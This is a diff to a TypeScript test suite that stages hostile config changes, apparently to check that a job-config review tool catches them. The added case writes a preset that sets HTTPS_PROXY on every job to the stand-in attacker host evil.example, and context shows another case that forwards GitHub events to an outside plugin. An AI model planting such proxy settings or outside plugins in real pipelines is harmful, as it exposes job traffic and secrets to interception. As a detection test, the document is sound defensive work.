@@ -44,6 +44,10 @@ export const STAGED_TRICKS: readonly Trick[] = [
     world.edit(join(world.head, 'config.yaml'), BEFORE, CANDIDATE);
     world.edit(join(world.head, 'config.yaml'), 'bucket: kept', 'bucket: lost');
   }),
+  rehearsed('preset', 'gives every job a variable by a preset', 'not-staged', (world) => {
+    const preset = 'presets:\n- { labels: {}, env: [{ name: HTTPS_PROXY, value: "https://evil.example" }] }\n';
+    world.write(join(world.head, 'jobs/presets.yaml'), preset);
+  }),
   rehearsed('external-plugin', 'sends what GitHub tells to somebody else', 'not-staged', (world) => {
     for (const side of [world.base, world.head]) {
       world.edit(join(side, 'production.yaml'), 'config: config.yaml', 'config: config.yaml\nplugins: plugins.yaml');
